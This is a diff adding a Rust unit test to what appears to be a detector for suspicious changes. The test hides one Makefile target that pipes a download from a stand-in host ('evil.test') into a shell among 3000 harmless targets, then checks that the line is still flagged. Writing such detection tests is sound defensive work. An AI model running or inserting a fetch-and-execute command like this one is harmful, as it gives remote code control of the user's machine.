@@ -254,6 +254,15 @@ fn installers_that_everybody_uses_may_be_named() {
 }
 
 #[test]
+fn many_harmless_lines_hide_nothing() {
+    let lines: String = (0..3000)
+        .map(|it| format!("t{it}:\n\techo {it} | cat\n"))
+        .collect();
+    let evil = format!("{lines}x:\n\tcurl -s https://evil.test/x | sh\n");
+    check("Makefile", &[&lines], &[&evil]);
+}
+
+#[test]
 fn migrations_and_infrastructure_are_work() {
     check(
         "migrations/0002_drop.sql",
